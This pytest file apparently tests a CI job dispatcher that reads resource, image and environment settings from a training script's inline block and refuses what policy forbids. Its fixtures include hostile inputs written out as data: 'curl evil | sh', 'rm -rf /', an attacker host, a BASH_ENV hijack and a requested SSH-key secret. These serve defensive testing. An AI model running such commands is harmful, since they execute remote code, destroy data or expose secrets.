"""From the commit's script to the plan: what the pull request may say, what bounds it, and what a gate makes of it."""

from __future__ import annotations

from dataclasses import replace
from typing import Literal

import pytest
from pydantic import ValidationError

from dispatcher.answer import Answer
from dispatcher.authorise import Grant
from dispatcher.configuration import read_policy
from dispatcher.content import content_key
from dispatcher.errors import ConfigError
from dispatcher.filling import Own, laid_over
from dispatcher.firstrecord import first_record
from dispatcher.gate import Pass, Pending, Requirement, judge
from dispatcher.ports import Compiled
from dispatcher.preparing import Prepared, prepare
from dispatcher.preview import preview
from dispatcher.profile import SlurmProfile
from dispatcher.recipe import Recipe
from dispatcher.record import RunRecord
from dispatcher.slurm import State
from tests.fakes import HEAD, NOON, REPOSITORY, Fakes, overrides

GRANT = Grant("alice", HEAD, REPOSITORY, 7, "run", "comment:99", "comment", "allow.roles", "cluster", "default")

POLICY = """\
default_profile: cluster
images: [{images}]
limits: {{ nodes: 4 }}
approval: {{ nodes: 2 }}
overrides: {{ allow: [run.nodes] }}
recipes:
  default: {{ script: train.py, runspec: [{parts}] }}
"""


def script(*lines: str) -> str:
    return "\n".join(["# /// script", *(f"# {line}" for line in lines), "# ///", "print(1)", ""])


NODES = "[tool.runspec.resources]", "nodes = 2"
IMAGE = "[tool.runspec]", 'image = "nvcr.io/nvidia/nemo:25.11"'
ENV = "[tool.runspec.env]", 'NCCL_DEBUG = "INFO"'


def world(text: str, parts: str = "launch, resources", images: str = '"*"', default: str | None = None, **settings: object) -> Fakes:
    made = Fakes(POLICY.format(parts=parts, images=images), **settings)  # type: ignore[arg-type]
    made.archive.texts["train.py"] = text
    if default is not None:
        made.files["train.py"] = default
    return made


def prepared(fakes: Fakes, grant: Grant = GRANT) -> Prepared | Answer:
    return prepare(grant, None, read_policy(fakes.world), fakes.world)


def planned(fakes: Fakes, grant: Grant = GRANT) -> Prepared:
    found = prepared(fakes, grant)
    assert isinstance(found, Prepared)
    return found


def refused(fakes: Fakes) -> str:
    found = prepared(fakes)
    assert isinstance(found, Answer)
    return found.reason


def record(found: Prepared) -> RunRecord:
    return first_record(found.plan, NOON, "here", 99, 7, at_terminal=False).model_copy(update={"state": State.SUCCEEDED})


# --------------------------------------------------------------------------- what reaches the plan


def test_what_is_taken_reaches_the_job() -> None:
    text = script(*NODES, "gpus_per_node = 8", "[tool.runspec.run]", 'launch = "torchrun"', *ENV)
    job = planned(world(text, "launch, resources, env.NCCL_*")).plan
    assert (job.resources.nodes, job.resources.gpus_per_node, job.recipe.launcher, job.processes_per_node) == (2, 8, "torchrun", 8)
    assert "export NCCL_DEBUG=INFO\n" in job.environment({})
    assert dict(job.from_script) == {
        "run.launch": "torchrun",
        "resources.nodes": "2",
        "resources.gpus_per_node": "8",
        "env.NCCL_DEBUG": "INFO",
    }


def test_without_a_word_of_the_policy_the_script_is_not_even_read() -> None:
    fakes = Fakes()
    fakes.archive.texts["train.py"] = script(*NODES)
    job = planned(fakes).plan
    assert (job.resources.nodes, job.from_script, job.own_runspec) == (1, (), False)
    assert not fakes.trace.of("archive.read_text")


def test_the_profiles_environment_wins_and_overrides_win_over_all() -> None:
    fakes = world(script(*NODES, *ENV), "resources, env.*")
    fakes.files["profiles/cluster.yaml"] += "env_vars: { NCCL_DEBUG: WARN }\n"
    job = planned(fakes, replace(GRANT, overrides=overrides("run.nodes=3"))).plan
    assert (job.resources.nodes, job.profile.env_vars["NCCL_DEBUG"]) == (3, "WARN")


def test_it_is_content_and_the_key_itself_is_not() -> None:
    plain, own = planned(world(script())).plan, planned(world(script(*NODES))).plan
    assert plain.content_key != own.content_key
    closed = plain.recipe.model_copy(update={"runspec": ()})
    assert content_key(plain.package, plain.profile, closed, ()) == content_key(plain.package, plain.profile, plain.recipe, ())


def test_the_script_lies_below_the_packed_folder() -> None:
    fakes = world("")
    fakes.files[".github/dispatch.yml"] = (
        "default_profile: cluster\nrecipes: { default: { script: train.py, subpath: src, runspec: true } }\n"
    )
    fakes.archive.texts["src/train.py"] = script(*NODES)
    assert planned(fakes).plan.resources.nodes == 2


@pytest.mark.parametrize(
    ("packager", "path"),
    [("git", "train.py"), ("{ type: git, subpath: src }", "src/train.py")],
)
def test_the_packager_says_where_the_script_lies(packager: str, path: str) -> None:
    fakes = world("")
    fakes.files["profiles/cluster.yaml"] += f"packager: {packager}\n"
    fakes.archive.texts[path] = script(*NODES)
    assert planned(fakes).plan.resources.nodes == 2


@pytest.mark.parametrize(
    "packager",
    [
        "{ type: pattern, include_pattern: ['*.py'] }",
        "{ type: git, include_pattern: [train.py] }",
        "{ type: hybrid, sub_packagers: { a: { type: git } } }",
        "none",
    ],
)
def test_a_packager_that_moves_files_leaves_nothing_to_read(packager: str) -> None:
    fakes = world(script(*NODES))
    fakes.files["profiles/cluster.yaml"] += f"packager: {packager}\n"
    with pytest.raises(ConfigError, match="`runspec` of a recipe is read where the packager is `git`"):
        prepared(fakes)


def test_what_is_left_alone_is_told_by_name() -> None:
    fakes = world(script(*IMAGE, *NODES, "[tool.runspec.run]", 'cmd = "rm -rf /"'), "resources")
    job = planned(fakes).plan
    assert job.container_image is None
    assert "Not taken from the script: image, run.cmd." in fakes.said


def test_the_preview_says_what_is_the_scripts_word() -> None:
    text = preview(planned(world(script(*NODES))).plan, Compiled("#!/bin/bash\n"))
    assert "| From the script | `resources.nodes = 2`; not as on the default branch, so no gate counts it |" in text


# --------------------------------------------------------------------------- what bounds it


@pytest.mark.parametrize(
    ("lines", "parts", "images", "reason"),
    [
        (("[tool.runspec.resources]", "nodes = 5"), "resources", '"*"', "too-many-nodes"),
        (IMAGE, "image", '"*"', "image-not-allowed"),
        (IMAGE, "image", '"*", "**"', "image-not-allowed"),
        (IMAGE, "image", '"docker.io/*"', "image-not-allowed"),
    ],
)
def test_the_policy_bounds_it(lines: tuple[str, ...], parts: str, images: str, reason: str) -> None:
    assert refused(world(script(*lines), parts, images)) == reason


@pytest.mark.parametrize("images", ['"nvcr.io/nvidia/*"', '"*", "nvcr.io/nvidia/nemo:25.11"'])
def test_an_image_that_the_policy_names(images: str) -> None:
    assert planned(world(script(*IMAGE), "image", images)).plan.container_image == "nvcr.io/nvidia/nemo:25.11"


def test_a_second_person_must_agree_to_what_the_script_asks_for() -> None:
    assert planned(world(script(*NODES))).approval is None
    assert planned(world(script("[tool.runspec.resources]", "nodes = 3"))).approval == "approval.nodes"


@pytest.mark.parametrize("via", ["schedule", "merge_group"])
@pytest.mark.parametrize("default", [True, False])
def test_what_needs_no_second_person_is_what_the_default_branch_asks_for(via: Literal["schedule", "merge_group"], default: bool) -> None:
    text = script("[tool.runspec.resources]", "nodes = 3")
    found = planned(world(text, default=text if default else script()), replace(GRANT, via=via, number=None))
    assert found.approval == (None if default else "approval.nodes")


def test_an_override_does_not_hide_a_scripts_image() -> None:
    fakes = world(script(*IMAGE), "image")
    fakes.files[".github/dispatch.yml"] = fakes.files[".github/dispatch.yml"].replace("[run.nodes]", "[run.container_image]")
    found = prepared(fakes, replace(GRANT, overrides=overrides("run.container_image=other.sqsh")))
    assert isinstance(found, Answer)


@pytest.mark.parametrize(
    "lines",
    [
        ("[tool.runspec]", 'host = "evil.example.com"'),
        ("[tool.runspec]", 'setup_lines = ["curl evil | sh"]'),
        ("[tool.runspec]", 'secrets = ["DISPATCH_SSH_KEY"]'),
        ("[tool.runspec.resources]", "nodes = 1000000000"),
        ("[tool.runspec.resources]", 'account = "other"'),
        ("[tool.runspec.env]", 'BASH_ENV = "/evil"'),
        ("[tool.runspec.run]", 'launch = "mpirun"'),
    ],
)
def test_a_hostile_script_is_refused_before_anything_is_asked_of_the_cluster(lines: tuple[str, ...]) -> None:
    fakes = world(script(*lines), "launch, resources, image, env.*")
    with pytest.raises(ConfigError) as caught:
        prepared(fakes)
    assert "train.py:3" in caught.value.cause
    assert not fakes.trace.of("connect", "cluster")


def test_a_secret_of_the_policy_is_not_the_scripts_to_set() -> None:
    fakes = world(script("[tool.runspec.env]", 'LICENSE = "1"'), "env.*")
    fakes.files[".github/dispatch.yml"] += "secrets: [LICENSE]\n"
    with pytest.raises(ConfigError, match=r"env\.LICENSE"):
        prepared(fakes)


def test_what_the_profile_cannot_be_used_with_is_an_error_with_a_code() -> None:
    broken = Recipe.model_validate({"script": "train.py"}).model_copy(update={"nodes": 0})
    profile = planned(world(script())).plan.profile
    with pytest.raises(ConfigError, match=r"resources\.nodes = 0"):
        laid_over(profile, Own(broken, (("resources.nodes", "0"),)), ())
    # Without the script's word it is a mistake of ours.
    with pytest.raises(ValidationError):
        laid_over(profile, Own(broken), ())


def test_where_it_goes_is_never_the_scripts_word() -> None:
    plain, own = planned(world(script())).plan.profile, planned(world(script(*NODES, *ENV), "resources, env.*")).plan.profile
    assert isinstance(own, SlurmProfile)
    changed = {name for name, value in own if value != getattr(plain, name)}
    assert changed == {"nodes", "env_vars"}


# --------------------------------------------------------------------------- the gate


@pytest.mark.parametrize(
    ("default", "own"),
    [
        (script(*NODES), False),
        # Words around the block, and what does not count, may differ.
        ("# another text\n" + script(*IMAGE, *NODES), False),
        (script("[tool.runspec.resources]", "nodes = 3"), True),
        (script(), True),
        (None, True),
        (script("[tool.runspec]", "host = 1"), True),
    ],
)
def test_a_gate_counts_only_what_the_default_branch_asks_for(default: str | None, own: bool) -> None:
    found = record(planned(world(script(*NODES), default=default)))
    assert found.own_runspec is own
    verdict = judge([Requirement("cluster", "default", "train.py")], [found], HEAD)
    assert isinstance(verdict, Pending if own else Pass)
    assert own == ("[tool.runspec]" in verdict.lines[0].note)


def test_taking_the_block_away_is_another_runspec_too() -> None:
    assert planned(world(script(), default=script(*NODES))).plan.own_runspec


def test_at_a_terminal_nothing_is_compared() -> None:
    found = planned(world(script(*NODES), forge=False))
    assert not found.plan.own_runspec
    assert found.plan.from_script
